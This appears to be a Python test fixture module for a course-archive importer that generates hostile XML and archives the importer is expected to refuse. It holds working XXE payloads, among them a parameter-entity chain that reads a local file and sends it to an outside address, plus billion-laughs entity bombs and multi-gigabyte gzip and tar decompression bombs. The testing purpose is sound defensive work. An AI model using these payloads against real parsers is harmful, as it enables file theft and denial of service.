"""XML that asks for more than to be read, and archives that inflate to more than anybody wants."""

from __future__ import annotations

import gzip
import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from include.local.data.olx.archive import BLOCK, header

from .hostile import member
from .made import ROOT_FILE, RUN_FILE, archive_of

SECRET = "canary-4f1c"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@dataclass(frozen=True)
class Attack:
    """``taken``: the document is harmless as it stands, and read."""

    name: str
    document: bytes
    taken: bool = False


def xml_attacks(file: str, pipe: str, address: str) -> Iterator[Attack]:
    """``file`` holds ``SECRET``; nobody writes to ``pipe``, so whoever opens it waits for ever; ``address`` counts connections."""
    for place in (f"file://{file}", f"file://{pipe}", pipe, f"{address}/x.dtd", "ftp://127.0.0.1:1/x"):
        yield Attack(f"external entity {place}", f'<!DOCTYPE a [<!ENTITY x SYSTEM "{place}">]><a b="1">&x;</a>'.encode())
        yield Attack(f"public entity {place}", f'<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//Y" "{place}">]><a>&x;</a>'.encode())
        yield Attack(f"parameter entity {place}", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{place}"> %x;]><a/>'.encode())
        yield Attack(f"DTD {place}", f'<!DOCTYPE a SYSTEM "{place}"><a/>'.encode())
        yield Attack(f"DTD after a comment {place}", f'<?xml version="1.0"?>\n<!-- <a> -->\n<?p q?> <!DOCTYPE a SYSTEM "{place}"><a/>'.encode())
        yield Attack(f"DTD in UTF-16 {place}", f'<!DOCTYPE a SYSTEM "{place}"><a/>'.encode("utf-16"))
        yield Attack(f"XInclude {place}", f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="{place}" parse="text"/></a>'.encode(), taken=True)
        yield Attack(f"style sheet {place}", f'<?xml-stylesheet type="text/xsl" href="{place}"?><a/>'.encode(), taken=True)
        schema = 'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation'
        yield Attack(f"schema {place}", f'<a {schema}="{place}"/>'.encode(), taken=True)
    exfiltration = f'<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{address}/?%f;\'>">%e;%s;'
    yield Attack("parameter entities that send a file", f"<!DOCTYPE a [{exfiltration}]><a/>".encode())
    yield Attack("billion laughs", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>'.encode())
    yield Attack("billion laughs in an attribute", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a b="&l9;"/>'.encode())
    yield Attack("quadratic blow-up", f'<!DOCTYPE a [<!ENTITY l "{"x" * 50_000}">]><a>{"&l;" * 50_000}</a>'.encode())
    yield Attack("recursive entities", b'<!DOCTYPE a [<!ENTITY l "&m;"><!ENTITY m "&l;">]><a>&l;</a>')
    yield Attack("attribute defaults", b'<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>')
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "utf-8-sig"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]><a>&x;</a>'
        yield Attack(f"a document type in {encoding}", declared.encode(encoding))
    yield Attack("10,000 levels", b"<a>" * 10_000 + b"</a>" * 10_000)
    yield Attack("10,000 levels, never closed", b"<a>" * 10_000)
    yield Attack("an attribute of 3.9 MB", b'<a b="' + b"x" * 3_900_000 + b'"/>', taken=True)
    yield Attack("100,000 attributes", b"<a " + b" ".join(b'a%d=""' % number for number in range(100_000)) + b"/>")
    yield Attack("100,000 attributes of one name", b"<a " + b'b="" ' * 100_000 + b"/>")
    yield Attack("100,000 namespaces", b"<a " + b" ".join(b'xmlns:n%d="u%d"' % (number, number) for number in range(100_000)) + b"/>", taken=True)
    yield Attack("a name of 3 MB", b"<" + b"n" * 3_000_000 + b"/>")
    yield Attack("a million elements", b"<a>" + b"<b/>" * 999_000 + b"</a>", taken=True)
    yield Attack("a million comments", b"<!---->" * 580_000 + b"<a/>", taken=True)
    yield Attack("comments before a document type", b"<!-- -->" * 480_000 + b"<!DOCTYPE a><a/>")
    yield Attack("comments that never end", b"<!--" * 900_000 + b"<!DOCTYPE a>")
    yield Attack("instructions that never end", b"<?a " * 900_000 + b"<!DOCTYPE a>")
    yield Attack("more than the limit", b"<a>" + b" " * (4 << 20) + b"</a>")
    yield Attack("a page in CDATA", b"<html><![CDATA[<!DOCTYPE html><p>&nbsp;</p>]]></html>", taken=True)
    yield Attack("a comment that speaks of one", b"<!-- <!DOCTYPE a> --><a/>", taken=True)


def attacked(attack: Attack) -> bytes:
    """The document among others in a course's archive, as a block and as the course run's own file. Noise keeps the archive from being a bomb."""
    noise = random.Random(1).randbytes(80_000)
    return archive_of(
        {
            "about/noise.bin": noise,
            "problem/a.xml": b"<problem/>",
            "problem/b.xml": attack.document,
            "video/v.xml": attack.document,
            "course/1T2026.xml": attack.document,
        }
    )


def zeros(gigabytes: int) -> bytes:
    """A gzip file that is zero bytes inside, 1,029 times smaller; its trailer is wrong, which nobody should live to see."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    million = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    return gzip.compress(b"", mtime=0)[:10] + million * (gigabytes * 1024) + again.flush() + bytes(8)


def bombs() -> Iterator[tuple[str, bytes]]:
    """All are refused."""
    start = member(b"course/course.xml", ROOT_FILE) + member(b"course/course/1T2026.xml", RUN_FILE)
    body = zeros(1)[10:]

    def after(front: bytes) -> bytes:
        packer = zlib.compressobj(6, zlib.DEFLATED, -15)
        return gzip.compress(b"", mtime=0)[:10] + packer.compress(front) + packer.flush(zlib.Z_FULL_FLUSH) + body

    yield "1 GB in one member", after(start + header(b"course/static/zeros.bin", 1 << 30))
    yield "1 GB in members of 200 MB", after(start + header(b"course/static/zeros.bin", 200 << 20))
    yield "an XML member of 1 GB", after(start + header(b"course/problem/a.xml", 1 << 30))
    yield "an XML member of 200 MB", after(start + header(b"course/problem/a.xml", 200 << 20))
    yield "1 GB after the end of the archive", after(start + bytes(2 * BLOCK))
    yield "10 GB of zeros", zeros(10)
    yield "10 GB in one member", after(start + header(b"course/static/z", 1).replace(b"00000000001\0", b"\x80" + (10 << 30).to_bytes(11, "big"), 1))
    blanks = b"<problem>" + b" " * 3_900_000 + b"</problem>"
    yield "80 MB of XML", archive_of({f"problem/{number}.xml": blanks for number in range(20)})
    yield "80 MB of JSON", archive_of({f"policies/1T2026/{number}.json": b"[" + b" " * 3_900_000 + b"]" for number in range(20)})
    yield "a gzip bomb in a gzip bomb", gzip.compress(zeros(8), 9)
    yield "a million empty gzip members", gzip.compress(b"", mtime=0) * 1_000_000
